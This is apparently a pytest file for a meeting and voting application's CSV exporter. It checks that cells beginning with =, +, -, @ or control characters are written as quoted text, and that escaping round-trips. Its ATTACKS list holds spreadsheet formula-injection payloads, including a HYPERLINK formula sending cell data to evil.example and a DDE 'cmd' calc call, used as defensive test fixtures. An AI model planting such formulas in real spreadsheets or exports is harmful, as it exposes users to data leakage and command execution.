"""The one CSV writer: every cell a spreadsheet would run is written as text."""

import csv
import datetime as dt
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sciapp.domain.attendance import Presence
from sciapp.domain.bodies import BodyKind, Office, Profile
from sciapp.domain.votes import VoteOption
from sciapp.services.exchange.csv_writer import CsvWriter, escape_formula, unescape_formula
from sciapp.services.meetings.records import MeetingDraft, MemberDraft
from sciapp.services.reports.popolo import write_meeting_votes_csv
from sciapp.services.votes.records import MotionDraft

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|x", "'+cmd|x"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=1", "''=1"),  # a quote already there is kept through the round trip
        ("Otsu", "Otsu"),
        ("'quoted'", "'quoted'"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_the_formula_rule(value, written):
    assert escape_formula(value) == written
    assert unescape_formula(written) == value


@given(st.text())
def test_unescape_undoes_escape_for_any_text(value):
    assert unescape_formula(escape_formula(value)) == value


def test_numbers_stay_numbers_and_none_is_empty():
    out = io.StringIO()
    writer = CsvWriter(out)
    writer.writerow([-3, 2.5, None, True, "-3"])
    assert out.getvalue() == "-3,2.5,,True,'-3\r\n"


def seed_hostile_meeting(workspace) -> int:
    """A meeting whose member names and motion texts are spreadsheet formulas."""
    body = workspace.bodies.create_body("Council", BodyKind.COUNCIL, 3, Profile.NONE)
    for seat, name in enumerate(ATTACKS, start=1):
        office = Office.CHAIR if seat == 1 else Office.MEMBER
        workspace.bodies.add_member(
            body.id, MemberDraft(name, dt.date(2020, 1, 1), None, office, seat=seat)
        )
    meeting = workspace.meetings.create(MeetingDraft(body.id, dt.date(2022, 3, 8), dt.time(19, 0)))
    for row in meeting.attendance:
        workspace.meetings.set_attendance(meeting.id, row.member_id, Presence.PRESENT)
    members = [row.member_id for row in workspace.meetings.get(meeting.id).attendance]
    for minute, text in enumerate(ATTACKS):
        motion = workspace.motions.create(
            meeting.id, MotionDraft(text, dt.time(19, 10 + minute), mover_id=members[0])
        )
        workspace.motions.record_roll_call(motion.id, dict.fromkeys(members, VoteOption.YES))
    return meeting.id


@pytest.fixture
def hostile_meeting(workspace):
    return seed_hostile_meeting(workspace)


def test_votes_csv_writes_formulas_as_text(workspace, hostile_meeting):
    out = io.StringIO()
    write_meeting_votes_csv(workspace.motions.for_meeting(hostile_meeting), out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    cells = [cell for row in rows[1:] for cell in row]
    assert cells, "the meeting's votes were written"
    for attack in ATTACKS:
        assert attack not in cells
        assert "'" + attack in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert all(row[0].isdigit() for row in rows[1:])  # the motion id is still a number
